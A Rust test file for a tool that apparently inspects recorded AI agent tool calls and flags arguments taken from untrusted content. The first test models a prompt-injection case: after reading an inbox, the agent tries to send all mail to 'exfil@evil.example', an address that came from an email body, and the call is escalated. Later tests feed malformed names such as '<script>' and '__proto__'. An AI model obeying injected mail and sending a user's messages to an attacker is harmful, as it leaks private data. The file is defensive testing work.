//! Bundles that are guessed.

use crate::support::{fixture, found, guessed, outcomes};
use countersign_core::document::{ArgumentRole, Effect, TargetType};
use countersign_observe::{compile, propose};

#[test]
fn what_the_person_named_passes_and_what_a_mail_said_is_asked_about() {
    let report = guessed(&fixture("openai-chat.json"));
    assert_eq!(
        outcomes(&report),
        [
            r#"rejected archive {"id": "m-17", "#,
            r#"escalated send_email {"to":["exfil@evil.example"],"subject":"All mail","body":"As asked."}"#,
            r#"approved read_inbox {"limit":2}"#,
            r#"approved send_email {"to":["billing@customer.example"],"subject":"Invoice","body":"Got it."}"#,
        ]
    );
    let stolen = &report.calls[1];
    let to = stolen
        .arguments
        .iter()
        .find(|one| one.at == "/to/0")
        .unwrap();
    assert_eq!(
        to.places,
        ["the result of read_inbox (result 1) at /0/body"]
    );
    let sources = to.sources.as_deref().unwrap();
    assert!(sources.contains(&"any_output") && !sources.contains(&"user"));
    assert!(!sources.contains(&"system_field"), "{sources:?}");
    assert!(to.needed.contains(&"user"), "{:?}", to.needed);
    assert_eq!(stolen.reasons[0].id, "asked-unless-grounded");
    let passed = &report.calls[3];
    let to = passed
        .arguments
        .iter()
        .find(|one| one.at == "/to/0")
        .unwrap();
    assert_eq!(to.places[0], "the person's words in this turn");
    assert!(to.needed.is_empty());
}

#[test]
fn a_guess_says_that_it_is_one_and_passes_its_check() {
    for name in [
        "openai-chat.json",
        "openai-requests.jsonl",
        "openai-responses.json",
        "anthropic.json",
        "claude-code.jsonl",
        "otel.json",
        "agentdojo.json",
        "recorded.jsonl",
        "own.jsonl",
    ] {
        let found = found(&fixture(name));
        let proposal = propose(&found).unwrap_or_else(|error| panic!("{name}: {error}"));
        assert!(!proposal.content.tools.is_empty(), "{name}");
        for tool in &proposal.content.tools {
            assert!(tool.description.starts_with("guess: "), "{}", tool.tool);
        }
        for guess in &proposal.guesses {
            assert!(guess.why.starts_with("guess: "), "{}", guess.why);
            assert!(
                !guess.why.contains("none could be made"),
                "{name}: {}",
                guess.tool
            );
        }
        compile(proposal.content).unwrap();
    }
}

#[test]
fn names_and_values_say_what_an_argument_is() {
    let found = found(&fixture("openai-chat.json"));
    let proposal = propose(&found).unwrap();
    let tools = proposal.content.tools;
    let send = tools.iter().find(|tool| tool.tool == "send_email").unwrap();
    assert_eq!(
        (send.action.as_str(), send.effect),
        ("email.send", Effect::Irreversible)
    );
    assert_eq!(send.roles["/to"], ArgumentRole::Identity);
    assert_eq!(send.roles["/body"], ArgumentRole::Text);
    assert_eq!(send.targets.len(), 1);
    assert_eq!(send.targets[0].kind, TargetType::Email);
    let read = tools.iter().find(|tool| tool.tool == "read_inbox").unwrap();
    assert_eq!((read.effect, read.targets.len()), (Effect::Read, 0));
    let labels = &read.results.as_ref().unwrap().fields;
    let at: Vec<&str> = labels.iter().map(|label| label.at.as_str()).collect();
    assert_eq!(at, ["$[*].id", "$[*].sender"]);
}

#[test]
fn tools_with_names_and_arguments_that_fit_nowhere_are_no_death() {
    let mut lines = vec![r#"{"kind":"turn","text":"Go."}"#.to_owned()];
    for (tool, args) in [
        ("", "{}"),
        ("\u{202e}lian_dnes", r#"{"to":"x"}"#),
        ("<script>", r#"{"<b>":"x","":1,"a/b~c":["x",1,null]}"#),
        ("f", r#"[1,2]"#),
        ("g", r#""text""#),
        (
            "send send send",
            r#"{"context":{"to":[{"id":{"id":[1]}}]}}"#,
        ),
        ("delete", r#"{"id":null}"#),
        ("delete", r#"{"id":["a",{"b":1}]}"#),
        (
            "mail",
            r#"{"to":"jo@acme.example","__proto__":1,"principal":"p","resource":"r"}"#,
        ),
    ] {
        lines.push(format!(
            r#"{{"kind":"call","tool":{},"args":{args}}}"#,
            serde_json::Value::from(tool)
        ));
    }
    let long = "x".repeat(10_000);
    lines.push(format!(
        r#"{{"kind":"call","tool":"{long}","args":{{"{long}":"{long}"}}}}"#
    ));
    let report = guessed(&lines.join("\n"));
    assert_eq!(report.tally.all.calls, 10);
    let text = serde_json::to_string(&report).unwrap();
    assert!(text.len() < 40_000, "{}", text.len());
}
